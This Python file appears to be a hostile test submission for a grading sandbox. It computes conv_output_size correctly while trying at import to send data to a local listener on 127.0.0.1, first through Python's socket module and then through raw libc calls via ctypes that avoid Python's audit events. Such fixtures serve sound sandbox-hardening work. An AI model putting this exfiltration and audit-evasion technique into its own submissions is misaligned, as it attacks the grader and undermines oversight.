"""Answers correctly, and tries to send the grader's files out over TCP to 127.0.0.1:CNNKIT_HOSTILE_PORT.

First through Python's socket module, then through raw libc socket()/connect() (no audit event).
"""

import ctypes
import os
import socket
import struct

_reference_conv_output_size = conv_output_size  # noqa: F821 (defined by the reference above)
PORT = int(os.environ.get("CNNKIT_HOSTILE_PORT", "0"))


def _python_connect():
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as connection:
            connection.sendall(b"stolen through python")
    except OSError:
        pass


def _libc_connect():
    libc = ctypes.pythonapi
    libc.socket.restype = libc.connect.restype = ctypes.c_int
    fd = libc.socket(2, 1, 0)  # AF_INET, SOCK_STREAM
    if fd < 0:
        return
    address = struct.pack("=HH4s8x", 2, socket.htons(PORT), socket.inet_aton("127.0.0.1"))
    if libc.connect(fd, address, len(address)) == 0:
        libc.write(fd, b"stolen through libc", 19)
    libc.close(fd)


if PORT:
    _python_connect()
    _libc_connect()


def conv_output_size(in_size, kernel_size, stride=1, padding=0):
    return _reference_conv_output_size(in_size, kernel_size, stride, padding)
